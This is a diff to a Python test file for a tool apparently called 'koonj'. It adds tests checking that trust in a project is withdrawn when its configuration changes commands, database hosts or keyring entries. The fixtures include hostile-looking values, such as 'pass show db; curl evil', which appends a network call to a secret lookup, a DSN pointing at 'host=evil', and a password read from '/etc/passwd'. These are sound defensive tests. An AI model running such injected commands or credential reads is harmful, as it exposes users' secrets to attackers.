@@ -86,6 +86,7 @@ def test_copy_of_a_trusted_folder_is_not_trusted(project: Project, environ: dict
         ("pass show db", "pass show db; curl evil"),
         ("host=db", "host=evil"),
         ("command =", "env ="),
+        ('command = "pass show db"', 'keyring = { service = "pass show db", user = "b" }'),
         ("[targets.local]", '[scratch]\ndsn = "host=evil"\n[targets.local]'),
         ('dsn = "embedded"', 'dsn = "dbname=a"\npassword = { file = "/etc/passwd" }'),
     ],
@@ -98,6 +99,16 @@ def test_koonj_asks_again_when_the_commands_change(
     settings = opened(project, environ, TARGETS.replace(old, new))
     assert not settings.trust.given
     assert settings.trust.has_changed
+
+
+def test_koonj_asks_again_when_another_entry_of_the_keyring_is_sent(
+    project: Project, environ: dict[str, str]
+) -> None:
+    text = TARGETS.replace('command = "pass show db"', 'keyring = { service = "db", user = "me" }')
+    opened(project, environ, text)
+    trust(project, environ)
+    assert opened(project, environ).trust.given
+    assert opened(project, environ, text.replace('"me"', '"boss"')).trust.has_changed
 
 
 def test_other_changes_of_the_configuration_keep_the_trust(project: Project, environ: dict[str, str]) -> None:
